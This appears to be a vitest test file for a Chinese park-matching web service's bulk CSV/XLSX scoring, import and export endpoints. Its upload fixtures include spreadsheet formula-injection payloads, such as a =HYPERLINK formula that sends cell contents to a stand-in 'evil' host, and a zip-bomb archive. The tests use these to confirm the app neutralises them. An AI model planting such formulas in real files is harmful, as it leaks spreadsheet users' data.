import { describe, it, expect, afterAll } from 'vitest';
import iconv from 'iconv-lite';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { createTestApp, type TestApp } from '../helpers/app.js';
import { buildZip } from '../io/zip-builder.js';
import { unzipAll } from '../io/helpers.js';
import { syntheticLeads } from '../../scripts/synthetic.js';
import { demoSeed } from '../helpers/app.js';

const t = createTestApp();
afterAll(() => t.jobs.stop());

const TRIGGER = /^[=+\-@\t\r\0]/;
const NUMERIC = /^[+-]?(\d+(\.\d+)?|\.\d+)$/;

async function upload(app: TestApp, bytes: Uint8Array | string, name: string, path = '/api/jobs/score') {
  const fd = new FormData();
  fd.append('file', new File([bytes as BlobPart], name));
  const res = await app.request(path, { method: 'POST', body: fd });
  return { status: res.status, body: (await res.json()) as any, headers: res.headers };
}

/** A CSV download: checks the UTF-8 BOM and returns the text after it. */
async function csvBody(res: Response): Promise<string> {
  const bytes = new Uint8Array(await res.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return new TextDecoder('utf-8', { ignoreBOM: false }).decode(bytes.slice(3));
}

async function finished(app: TestApp, id: string) {
  await app.jobs.idle();
  return (await app.json(`/api/jobs/${id}`)).body;
}

const xlsxOf = async (rows: unknown[][]) => {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('线索');
  for (const r of rows) ws.addRow(r);
  return new Uint8Array(await wb.xlsx.writeBuffer());
};

describe('bulk scoring over HTTP', () => {
  const GBK_CSV = [
    '项目名称,企业名称,项目简介,所属行业,总投资(万元),面积需求(平方米),用地需求(亩),报送镇街,备注',
    '内窥镜项目,某医疗,研发生产内窥镜,,6000,3000,,南湖街道,"=HYPERLINK(""http://evil/?""&A1,""点击"")"',
    '传感器项目,某科技,做气体传感器,,abc,,,,', // row 2: non-numeric amount
    '空白项目,某公司,,,100,,,,', // row 3: no summary, no industry
    '精密件项目,,精密零部件加工，不涉及铸造,,-12,,,,', // row 4: negative
    '时尚项目,,,时尚服装,,800,,新塍镇,+86 573',
    '电镀项目,,五金件电镀加工,,500,,,,@SUM(1)',
  ].join('\r\n');

  it('scores a GBK CSV: bad rows named by row and field, good rows in input order, results downloadable', async () => {
    const up = await upload(t, iconv.encode(GBK_CSV, 'gbk'), '线索.csv');
    expect(up.status).toBe(202);
    expect(up.headers.get('location')).toBe(`/api/jobs/${up.body.jobId}`);
    expect(up.body).toMatchObject({ status: 'queued', total: 6, failed: 3, format: 'csv', encoding: 'gb18030', ignoredColumns: ['备注'] });
    const job = await finished(t, up.body.jobId);
    expect(job).toMatchObject({ status: 'done', total: 6, processed: 6, failed: 3, progress: 1 });
    expect(job.errors.map((e: any) => [e.row, e.field])).toEqual([
      [2, 'investmentWan'],
      [3, 'summary'],
      [4, 'investmentWan'],
    ]);
    expect(job.errors[0].message).toBe('第 3 行「总投资(万元)」不是数字：“abc”'); // Excel's row 3: data row 2 under the header

    const res = await t.request(`/api/jobs/${up.body.jobId}/results?format=csv`);
    expect(res.headers.get('content-type')).toContain('text/csv');
    expect(res.headers.get('content-disposition')).toContain("filename*=UTF-8''");
    const rows = parse(await csvBody(res)) as string[][];
    expect(rows[0]).toEqual([
      '项目名称',
      '企业名称',
      '项目简介',
      '所属行业',
      '总投资(万元)',
      '面积需求(平方米)',
      '用地需求(亩)',
      '报送镇街',
      '备注',
      '推荐园区',
      '得分',
      '备选园区',
      '排除原因',
      '推荐理由',
    ]);
    expect(rows.slice(1).map((r) => r[0])).toEqual(['内窥镜项目', '时尚项目', '电镀项目']);
    expect(rows[1]![8]).toBe(`'=HYPERLINK("http://evil/?"&A1,"点击")`);
    expect(rows[2]![8]).toBe("'+86 573");
    expect(rows[3]![8]).toBe("'@SUM(1)");
    expect(rows[1]![4]).toBe('6000');
    expect(rows[1]![9]).toBe('亚太路科创工业社区（微创产业园）');
    expect(Number(rows[1]![10])).toBeGreaterThan(50);
    expect(rows[3]![9]).toBe('无符合准入条件的园区');
    expect(rows[3]![12]).toContain('电镀');
    for (const r of rows) for (const cell of r) if (!NUMERIC.test(cell)) expect(TRIGGER.test(cell), cell).toBe(false);
  });

  it('scores an XLSX with bad rows and a =HYPERLINK cell; the XLSX results hold values, never formulas', async () => {
    const bytes = await xlsxOf([
      ['项目名称', '项目简介', '总投资(万元)', '备注'],
      ['甲', '研发生产内窥镜', 6000, { formula: 'HYPERLINK("http://evil","点击")', result: '点击' }],
      ['乙', '', '', '=HYPERLINK("http://evil","点击")'],
      ['丙', '智能家居研发', '五千万?', '-5'],
      ['丁', '=1+2', 100, '@x'],
    ]);
    const up = await upload(t, bytes, 'leads.xlsx');
    expect(up.status).toBe(202);
    const job = await finished(t, up.body.jobId);
    expect(job.errors.map((e: any) => [e.row, e.field])).toEqual([
      [2, 'summary'],
      [3, 'investmentWan'],
    ]);
    const res = await t.request(`/api/jobs/${up.body.jobId}/results?format=xlsx`);
    expect(res.headers.get('content-type')).toContain('spreadsheetml');
    const files = await unzipAll(Buffer.from(await res.arrayBuffer()));
    const sheets = [...files].filter(([n]) => n.startsWith('xl/worksheets/sheet'));
    expect(sheets.length).toBe(1);
    expect(sheets[0]![1]).not.toMatch(/<f[ >]/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await (await t.request(`/api/jobs/${up.body.jobId}/results?format=xlsx`)).arrayBuffer()) as never);
    const values = wb.worksheets[0]!.getSheetValues()
      .slice(1)
      .map((r) => (r as unknown[]).slice(1));
    expect(values.map((r) => r[0])).toEqual(['项目名称', '甲', '丁']);
    expect(values[1]![2]).toBe(6000); // numbers stay numbers
    expect(values[1]![3]).toBe('点击'); // a formula's value, never the formula
    // text as text: the value as typed, no visible apostrophe, and a string cell (t="inlineStr"/"s"), never a formula
    expect(values[2]![1]).toBe('=1+2');
    expect(sheets[0]![1]).toMatch(/=1\+2/);
    for (const r of values) for (const v of r) if (typeof v === 'string') expect(v.startsWith("'"), v).toBe(false);
  });

  it('gives JSON results and the row errors as a download', async () => {
    const up = await upload(t, '\uFEFF项目名称,项目简介\n甲,研发生产内窥镜\n乙,\n', 'a.csv');
    await finished(t, up.body.jobId);
    const j = await t.json(`/api/jobs/${up.body.jobId}/results?format=json`);
    expect(j.status).toBe(200);
    expect(j.body.columns).toEqual(['项目名称', '项目简介']);
    expect(j.body.items).toHaveLength(1);
    expect(j.body.items[0]).toMatchObject({
      row: 1,
      input: { 项目名称: '甲', 项目简介: '研发生产内窥镜' },
      best: { parkId: 'jx-weichuang' },
    });
    const errs = parse(await csvBody(await t.request(`/api/jobs/${up.body.jobId}/errors`))) as string[][];
    expect(errs).toEqual([
      ['表格行号', '列', '说明'],
      ['3', '项目简介', '第 3 行：项目简介和所属行业至少填写一项'],
    ]);
    const list = await t.json('/api/jobs?limit=5');
    expect(list.body.items.some((x: any) => x.id === up.body.jobId)).toBe(true);
  });

  it('offers a template that imports as it is', async () => {
    const text = await csvBody(await t.request('/api/jobs/template?format=csv'));
    expect(
      text.startsWith('项目名称,企业名称,项目简介,所属行业,总投资(万元),面积需求(平方米),用地需求(亩),年产值(万元),年税收(万元),报送镇街'),
    ).toBe(true);
    const xlsx = new Uint8Array(await (await t.request('/api/jobs/template?format=xlsx')).arrayBuffer());
    for (const [bytes, name] of [
      [text, 't.csv'],
      [xlsx, 't.xlsx'],
    ] as const) {
      const up = await upload(t, bytes, name);
      expect(up.status).toBe(202);
      expect(up.body).toMatchObject({ total: 2, failed: 0, ignoredColumns: [] });
    }
    expect((await t.request('/api/jobs/template?format=pdf')).status).toBe(400);
  });

  it('answers 400 naming the problem for files it cannot use', async () => {
    const cases: [Uint8Array | string, string, RegExp][] = [
      ['', 'empty.csv', /文件为空/],
      [new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]), 'photo.csv', /图片|不是表格/],
      [new Uint8Array([0x25, 0x50, 0x44, 0x46, 0x2d]), 'doc.pdf', /PDF/],
      ['联系人,电话\n张三,13800000000\n', 'x.csv', /未找到可识别的表头/],
      ['项目名称\n甲\n', 'x.csv', /缺少“项目简介”或“所属行业”/],
      ['项目简介\n', 'x.csv', /只有表头/],
      [buildZip([{ name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(64 * 1024 * 1024) }]), 'bomb.xlsx', /压缩比/],
    ];
    for (const [bytes, name, msg] of cases) {
      const r = await upload(t, bytes, name);
      expect(r.status, name).toBe(400);
      expect(r.body.error.code).toBe('invalid_request');
      expect(r.body.error.message, name).toMatch(msg);
      expect(r.body.error.issues[0].path).toBe('file');
    }
    const noFile = await t.request('/api/jobs/score', { method: 'POST', body: new FormData() });
    expect(noFile.status).toBe(400);
    expect((await noFile.json()).error.issues[0].path).toBe('file');
    const json = await t.request('/api/jobs/score', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
    expect(json.status).toBe(415);
    expect((await json.json()).error.code).toBeTruthy();
  });

  it('enforces the configured limits with a 400 naming the limit', async () => {
    const small = createTestApp({ UPLOAD_MAX_ROWS: '3', UPLOAD_MAX_BYTES: '2048', UPLOAD_MAX_CELL_CHARS: '20' });
    try {
      const rows = await upload(small, '项目简介\n' + '做传感器\n'.repeat(4), 'x.csv');
      expect(rows.status).toBe(400);
      expect(rows.body.error.message).toContain('UPLOAD_MAX_ROWS');
      const big = await upload(small, '项目简介\n' + '做传感器'.repeat(400), 'x.csv');
      expect(big.status).toBe(400);
      expect(big.body.error.message).toContain('UPLOAD_MAX_BYTES');
      const cell = await upload(small, '项目简介\n做传感器\n' + '传'.repeat(30) + '\n', 'x.csv');
      expect(cell.status).toBe(202);
      const job = await finished(small, cell.body.jobId);
      expect(job.errors).toEqual([
        expect.objectContaining({ row: 2, field: 'summary', message: expect.stringContaining('超过 20 个字符') }),
      ]);
    } finally {
      await small.jobs.stop();
    }
  });

  it('still limits JSON bodies on the other endpoints', async () => {
    const res = await t.post('/api/match', { summary: 'x'.repeat(70_000) });
    expect(res.status).toBe(413);
  });

  it('answers 404 for an unknown job and 409 for results of an unfinished one', async () => {
    expect((await t.request('/api/jobs/no-such-job')).status).toBe(404);
    expect((await t.request('/api/jobs/no-such-job/results')).status).toBe(404);
    const { beginJob, openJob } = await import('../../server/jobs/jobs.repo.js');
    beginJob(t.db, { id: 'not-started', kind: 'score', fileName: null, columns: ['项目简介'] });
    openJob(t.db, 'not-started', { total: 0, failed: 0, errors: [], message: null, actor: 'test', detail: {} });
    const r = await t.json('/api/jobs/not-started/results');
    expect(r.status).toBe(409);
    expect(r.body.error.message).toContain('尚未完成');
    expect((await t.request('/api/jobs/x/results?format=doc')).status).toBe(400);
  });

  it('keeps the API responsive while a job scores in worker threads', async () => {
    const leads = syntheticLeads(demoSeed(), 6000, 77);
    const csv =
      '项目名称,项目简介,面积需求(平方米),总投资(万元)\n' +
      leads.map((l) => `${l.name},${l.summary},${l.floorAreaM2 ?? ''},${l.investmentWan ?? ''}`).join('\n');
    const up = await upload(t, csv, 'big.csv');
    expect(up.status).toBe(202);
    let answeredWhileScoring = 0;
    for (;;) {
      const job = (await t.json(`/api/jobs/${up.body.jobId}?errorsLimit=0`)).body;
      if (job.status === 'done') break;
      if (job.processed > 0 && job.processed < job.total) {
        const [health, match] = await Promise.all([t.json('/api/health'), t.post('/api/match', { summary: '研发生产内窥镜' })]);
        expect(health.status).toBe(200);
        expect(match.status).toBe(200);
        expect(match.body.results[0].parkId).toBe('jx-weichuang');
        answeredWhileScoring++;
      }
      await new Promise((r) => setTimeout(r, 20));
    }
    expect(answeredWhileScoring).toBeGreaterThan(0);
    const done = (await t.json(`/api/jobs/${up.body.jobId}?errorsLimit=0`)).body;
    expect(done).toMatchObject({ total: 6000, processed: 6000, failed: 0 });
  });
});

describe('park and vacancy import over HTTP', () => {
  it('exports parks and spaces in CSV and XLSX, and an export imports back unchanged', async () => {
    for (const kind of ['parks', 'spaces']) {
      const csv = await t.request(`/api/export/${kind}?format=csv`);
      expect(csv.status).toBe(200);
      const text = await csv.text();
      const up = await upload(t, text, `${kind}.csv`, `/api/import/${kind}`);
      expect(up.status).toBe(200);
      expect(up.body).toMatchObject({ failed: 0, created: 0, errors: [] });
      const xlsx = await t.request(`/api/export/${kind}?format=xlsx`);
      const again = await upload(t, new Uint8Array(await xlsx.arrayBuffer()), `${kind}.xlsx`, `/api/import/${kind}`);
      expect(again.body).toMatchObject({ failed: 0, created: 0, updated: up.body.updated });
    }
  });

  it('upserts spaces by id in one transaction, reports bad rows, and the knowledge base sees the change', async () => {
    const before = t.kb();
    const park = (await t.json('/api/parks/jx-weichuang')).body;
    const unit = park.spaces[0];
    const csv = [
      '空间编号,园区编号,楼栋,楼层,面积(平方米),空间类型,状态',
      `${unit.id},,,,,,已租`,
      'jx-weichuang-new-unit,jx-weichuang,9号楼,1,2500,厂房,空置',
      'bad-unit,no-such-park,1号楼,1,100,厂房,空置',
    ].join('\n');
    const up = await upload(t, csv, 'spaces.csv', '/api/import/spaces');
    expect(up.body).toMatchObject({ total: 3, imported: 2, created: 1, updated: 1, failed: 1 });
    expect(up.body.errors[0]).toMatchObject({ row: 3, field: 'parkId' });
    expect(t.kb()).not.toBe(before);
    const after = (await t.json('/api/parks/jx-weichuang')).body;
    expect(after.spaces.find((s: any) => s.id === unit.id).status).toBe('occupied');
    expect(after.spaces.some((s: any) => s.id === 'jx-weichuang-new-unit')).toBe(true);
    const bad = await upload(t, '联系人\n张三\n', 'x.csv', '/api/import/parks');
    expect(bad.status).toBe(400);
    expect((await t.request('/api/import/template?kind=spaces&format=xlsx')).status).toBe(200);
  });
});

describe('upload page', () => {
  it('is served in Chinese under the strict CSP, with no inline script and no innerHTML', async () => {
    const res = await t.request('/upload.html');
    expect(res.status).toBe(200);
    const csp = res.headers.get('content-security-policy') ?? '';
    for (const d of ["default-src 'self'", "script-src 'self'", "object-src 'none'", "frame-ancestors 'none'"]) expect(csp).toContain(d);
    const html = await res.text();
    expect(html).toContain('批量评分');
    expect(html).toContain('<progress');
    expect(html).not.toMatch(/<script(?![^>]*src=)[^>]*>/);
    expect(html).not.toMatch(/\sstyle=|<style/);
    expect(html).not.toMatch(/https?:\/\//);
    const js = await (await t.request('/upload.js')).text();
    expect(js).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(/);
  });
});
